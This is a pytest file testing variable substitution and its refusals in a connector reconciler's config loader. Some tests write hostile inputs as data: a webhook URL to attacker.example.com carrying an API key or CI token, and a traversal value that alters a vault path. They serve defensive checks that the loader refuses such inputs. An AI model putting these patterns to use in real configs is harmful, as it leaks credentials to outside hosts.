"""Issue #13, `${var:NAME}`: substituted offline through `reconciler.desired.load` on small
repositories. Typed whole values reach the ConnectorSpec typed, text inside strings, the built-ins,
the `$${` escape, one level inside a secret reference's path; env-fed vars and the exfiltration guard;
and every refusal (a secret backend in a var, a cycle, an undefined var, a list inside a string,
`${env:}` written in config) says what is wrong and where."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

import pytest
from helpers.cli import write_repo

from reconciler.desired import load
from reconciler.errors import Problem
from reconciler.model import ConnectorSpec, DesiredState
from reconciler.references import parse_template

ONE_ENV = """\
vars:
  port: 587
  secure: true
  region: eu
  project: OPS
  tags: [a, b]
environments:
  production:
    vars:
      project: PROD
"""

MAIL = """\
connectors:
  - id: mail
    name: Mail ${var:project} port ${var:port} (${var:env}, ${var:space})
    type: .email
    config:
      from: alerts@example.com
      host: smtp-${var:region}.example.com
      port: ${var:port}
      secure: ${var:secure}
      service: other
    secrets:
      user: ${env:MAIL_USER}
      password: ${env:MAIL_PASS}
"""


def repo(tmp_path: Path, settings: str, connectors: str, *, space: str = "default") -> Path:
    return write_repo(tmp_path / "repo", {"kcr.yaml": settings, f"connectors/{space}/main.yaml": connectors})


def state(root: Path, env: Mapping[str, str] | None = None, environment: str | None = None) -> DesiredState:
    result = load(root, env=env or {}, environment=environment)
    assert not result.errors, [f"{p.location()}: {p.message}" for p in result.errors]
    assert result.state is not None
    return result.state


def only(st: DesiredState, space: str = "default") -> ConnectorSpec:
    (spec,) = st.spaces[space].connectors
    return spec


def errors(root: Path, env: Mapping[str, str] | None = None, environment: str | None = None) -> list[Problem]:
    result = load(root, env=env or {}, environment=environment)
    assert result.errors, "the repository was expected to be refused"
    assert not result.states
    return list(result.errors)


def messages(problems: list[Problem]) -> str:
    return "\n".join(f"{p.location()}: {p.message}" for p in problems)


# --- substitution --------------------------------------------------------------------------------------


def test_whole_values_stay_typed_and_strings_get_text(tmp_path: Path) -> None:
    spec = only(state(repo(tmp_path, ONE_ENV, MAIL), environment="production"))
    assert spec.config["port"] == 587 and type(spec.config["port"]) is int
    assert spec.config["secure"] is True
    assert spec.config["host"] == "smtp-eu.example.com"
    # The environment's own value wins over the top-level default; built-ins name environment and space.
    assert spec.name == "Mail PROD port 587 (production, default)"
    assert spec.secrets == {"user": "${env:MAIL_USER}", "password": "${env:MAIL_PASS}"}


CHANNELS = """\
vars:
  channels:
    - {id: C01, name: alerts}
    - {id: C02, name: oncall}
"""


def test_a_list_var_reaches_config_as_a_list(tmp_path: Path) -> None:
    root = repo(tmp_path, CHANNELS, """\
connectors:
  - id: slack-api
    name: Slack API
    type: .slack_api
    config:
      allowedChannels: ${var:channels}
    secrets:
      token: ${env:SLACK_TOKEN}
""")
    assert only(state(root)).config["allowedChannels"] == [{"id": "C01", "name": "alerts"},
                                                           {"id": "C02", "name": "oncall"}]


def test_a_list_var_inside_a_string_is_refused(tmp_path: Path) -> None:
    root = repo(tmp_path, CHANNELS, """\
connectors:
  - id: slack-api
    name: Slack for ${var:channels}
    type: .slack_api
    secrets:
      token: ${env:SLACK_TOKEN}
""")
    (problem,) = errors(root)
    assert problem.line == 3 and problem.path == "connectors[0].name"
    assert "${var:channels} holds a list" in problem.message and "whole value" in problem.message


def test_built_ins_and_the_escape(tmp_path: Path) -> None:
    root = repo(tmp_path, "environments:\n  staging: {}\n", """\
connectors:
  - id: hook
    name: Hook ${var:env}/${var:space} keeps $${var:env}
    type: .webhook
    config:
      url: https://hooks.example.com/${var:space}?raw=$${var:x}
      hasAuth: false
""", space="ops")
    spec = only(state(root, environment="staging"), "ops")
    assert spec.name == "Hook staging/ops keeps ${var:env}"
    assert spec.config["url"] == "https://hooks.example.com/ops?raw=${var:x}"


def test_var_env_without_environments_is_refused(tmp_path: Path) -> None:
    root = repo(tmp_path, "vars: {}\n", """\
connectors:
  - id: log
    name: Log ${var:env}
    type: .server-log
""")
    (problem,) = errors(root)
    assert "${var:env} is the environment's name, and kcr.yaml declares no environments" in problem.message
    assert problem.location() == "connectors/default/main.yaml:3:11"


def test_a_var_inside_a_vault_path_gives_the_reference_target(tmp_path: Path) -> None:
    root = repo(tmp_path, "environments:\n  eu: {vars: {region: eu-west}}\n  us: {vars: {region: us-east}}\n", """\
connectors:
  - id: slack
    name: Slack
    type: .slack
    secrets:
      webhookUrl: ${vault:kv/${var:region}/slack#url}
""")
    for env_name, region in (("eu", "eu-west"), ("us", "us-east")):
        spec = only(state(root, environment=env_name))
        (ref,) = parse_template(spec.secrets["webhookUrl"]).references
        assert (ref.scheme, ref.target) == ("vault", f"kv/{region}/slack#url")


@pytest.mark.parametrize("value", ["'x}/../../other#k'", "'$${env:KIBANA_API_KEY}'", "'a${b'"])
def test_a_var_value_that_would_change_a_reference_is_refused(tmp_path: Path, value: str) -> None:
    root = repo(tmp_path, f"vars:\n  region: {value}\n", """\
connectors:
  - id: slack
    name: Slack
    type: .slack
    secrets:
      webhookUrl: ${vault:kv/${var:region}/slack#url}
""")
    (problem,) = errors(root)
    assert problem.path == "connectors[0].secrets.webhookUrl"
    assert "${var:region}" in problem.message and "would change what is read" in problem.message


def test_an_env_fed_var_takes_the_variable_value(tmp_path: Path) -> None:
    root = repo(tmp_path, "vars:\n  region: ${env:REGION}\n  host: smtp-${var:region}.example.com\n", """\
connectors:
  - id: hook
    name: Hook in ${var:region}
    type: .webhook
    config:
      url: https://${var:host}/x
      hasAuth: false
""")
    spec = only(state(root, env={"REGION": "ap-south"}))
    assert spec.name == "Hook in ap-south"
    assert spec.config["url"] == "https://smtp-ap-south.example.com/x"


def test_an_env_fed_var_unset_is_an_error_for_plan_and_a_warning_offline(tmp_path: Path) -> None:
    root = repo(tmp_path, "vars:\n  region: ${env:REGION}\n", """\
connectors:
  - id: log
    name: Log ${var:region}
    type: .server-log
""")
    (problem,) = errors(root)
    assert "var `region` (kcr.yaml) reads ${env:REGION}, which is not set" in problem.message
    offline = load(root, env={}, offline=True)
    assert not offline.errors
    assert [p.severity for p in offline.problems] == ["warning"]


ENV_CREDENTIAL = """\
vars:
  leak: ${env:%s}
environments:
  production:
    credentials: {api_key: PROD_KIBANA_KEY}
"""


@pytest.mark.parametrize("variable", ["KIBANA_API_KEY", "PROD_KIBANA_KEY", "CI_JOB_TOKEN"])
def test_an_env_fed_var_naming_a_run_credential_is_refused(tmp_path: Path, variable: str) -> None:
    root = repo(tmp_path, ENV_CREDENTIAL % variable, """\
connectors:
  - id: hook
    name: Hook
    type: .webhook
    config:
      url: https://attacker.example.com/${var:leak}
      hasAuth: false
""")
    canary = "CANARY-credential-5e1f"
    problems = errors(root, env={variable: canary}, environment="production")
    text = messages(problems)
    assert f"${{env:{variable}}} is refused" in text and "var `leak`" in text
    assert canary not in text


@pytest.mark.parametrize("value", ["${vault:kv/app#token}", "${file:secrets/token}", "prefix-${vault:kv/a#b}"])
def test_a_secret_backend_in_a_var_is_refused(tmp_path: Path, value: str) -> None:
    root = repo(tmp_path, f"vars:\n  token: '{value}'\n", """\
connectors:
  - id: log
    name: Log ${var:token}
    type: .server-log
""")
    (problem,) = errors(root)
    assert "var `token` (kcr.yaml) holds a secret reference" in problem.message
    assert "put secrets under `secrets:`" in problem.message


def test_a_cycle_is_named(tmp_path: Path) -> None:
    root = repo(tmp_path, "environments:\n  staging:\n    vars: {a: 'x${var:b}', b: '${var:a}'}\n", """\
connectors:
  - id: log
    name: Log ${var:a}
    type: .server-log
""")
    (problem,) = errors(root)
    assert "vars form a cycle in environment 'staging': a -> b -> a" in problem.message


def test_an_undefined_var_names_the_environment_and_the_place(tmp_path: Path) -> None:
    root = repo(tmp_path, "environments:\n  staging: {vars: {project: STG}}\n  production: {}\n", """\
connectors:
  - id: jira
    name: Jira
    type: .jira
    config:
      apiUrl: https://jira.example.com
      projectKey: ${var:project}
    secrets:
      email: ${env:JIRA_EMAIL}
      apiToken: ${env:JIRA_TOKEN}
""")
    assert only(state(root, environment="staging")).config["projectKey"] == "STG"
    (problem,) = errors(root)  # every environment: only production lacks it
    assert problem.location() == "connectors/default/main.yaml:7:19"
    assert not problem.message.startswith("in environment")  # the message names it already
    assert "${var:project} is not defined for environment 'production'" in problem.message
    assert "environments.production.vars" in problem.message


@pytest.mark.parametrize("written", ["${env:JIRA_PROJECT}", "OPS-${file:project.txt}", "${vault:kv/jira#project}"])
def test_a_reference_written_in_config_points_to_vars(tmp_path: Path, written: str) -> None:
    root = repo(tmp_path, "vars: {}\n", f"""\
connectors:
  - id: jira
    name: Jira
    type: .jira
    config:
      apiUrl: https://jira.example.com
      projectKey: "{written}"
    secrets:
      email: ${{env:JIRA_EMAIL}}
      apiToken: ${{env:JIRA_TOKEN}}
""")
    (problem,) = errors(root)
    assert problem.path == "connectors[0].config.projectKey" and problem.line == 7
    assert "a secret reference is read only inside `secrets`" in problem.message
    assert "${var:NAME}" in problem.message


def test_a_var_reading_the_space_is_resolved_for_each_copy(tmp_path: Path) -> None:
    root = write_repo(tmp_path / "repo", {
        "kcr.yaml": "vars:\n  base: https://hooks.example.com\n  url: ${var:base}/${var:path}\n"
                    "  path: in-${var:space}\n",
        "connectors/_all/hook.yaml": """\
connectors:
  - id: hook
    name: Hook ${var:path}
    type: .webhook
    spaces: [alpha, beta, gamma]
    config:
      url: ${var:url}
      hasAuth: false
""",
    })
    st = state(root)
    urls = {space: only(st, space).config["url"] for space in ("alpha", "beta", "gamma")}
    assert urls == {s: f"https://hooks.example.com/in-{s}" for s in ("alpha", "beta", "gamma")}
    assert [only(st, s).name for s in ("alpha", "beta", "gamma")] == ["Hook in-alpha", "Hook in-beta", "Hook in-gamma"]


def test_the_guard_applies_to_a_reference_built_from_a_var(tmp_path: Path) -> None:
    root = repo(tmp_path, "vars:\n  which: ${env:WHICH}\n", """\
connectors:
  - id: slack
    name: Slack
    type: .slack
    secrets:
      webhookUrl: https://hooks.example.com/${env:${var:which}}
""")
    ok = only(state(root, env={"WHICH": "SLACK_PATH"}))
    assert ok.secrets["webhookUrl"] == "https://hooks.example.com/${env:SLACK_PATH}"
    (problem,) = errors(root, env={"WHICH": "KIBANA_API_KEY", "KIBANA_API_KEY": "CANARY-never-shown"})
    assert problem.path == "connectors[0].secrets.webhookUrl"
    assert "${env:KIBANA_API_KEY} is refused" in problem.message and "CANARY" not in problem.message


def test_a_name_that_is_a_whole_var_is_text_and_never_silently_dropped(tmp_path: Path) -> None:
    root = repo(tmp_path, "vars:\n  release: 2\n  enabled: true\n", """\
connectors:
  - id: a
    name: ${var:release}
    type: .server-log
  - id: b
    name: ${var:enabled}
    type: .server-log
""")
    st = state(root)
    assert sorted((s.key, s.name) for s in st.spaces["default"].connectors) == [("a", "2"), ("b", "true")]


@pytest.mark.parametrize(("value", "kind"), [("[x, y]", "a list"), ("{k: v}", "a mapping"), ("null", "null")])
def test_a_name_var_that_is_not_text_is_refused(tmp_path: Path, value: str, kind: str) -> None:
    root = repo(tmp_path, f"vars:\n  title: {value}\n", """\
connectors:
  - id: a
    name: ${var:title}
    type: .server-log
""")
    (problem,) = errors(root)
    assert problem.path == "connectors[0].name"
    assert f"${{var:title}} holds {kind}" in problem.message


def test_a_refusal_naming_an_environment_is_not_replayed_for_another(tmp_path: Path) -> None:
    root = repo(tmp_path, "environments:\n  staging: {vars: {title: [x]}}\n  production: {vars: {title: [x]}}\n", """\
connectors:
  - id: a
    name: ${var:title}
    type: .server-log
""")
    text = messages(errors(root))
    assert "holds a list (environment 'staging')" in text and "holds a list (environment 'production')" in text
